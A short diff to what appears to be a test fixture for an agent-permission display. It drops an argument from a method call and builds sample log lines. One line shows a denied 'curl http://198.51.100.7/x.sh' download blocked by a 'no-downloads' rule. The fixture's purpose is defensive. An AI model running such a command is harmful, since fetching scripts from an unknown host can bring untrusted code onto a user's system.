@@ -37,7 +37,7 @@ def screen() -> str:
     )
     other = waits("b71c02", session_id=docs.id, what="npm install left-pad")
     face = Face(only_questions=False)
-    face.take(board(agent, docs, ended._replace(processes=None), waiting=(question, other)), 0.0)
+    face.take(board(agent, docs, ended._replace(processes=None), waiting=(question, other)))
     lines = [
         line(1, "denied", "curl http://198.51.100.7/x.sh  (rule no-downloads)"),
         line(2, "approved", "git commit -m 'Wait for the last one'  (rule ask-commit)"),
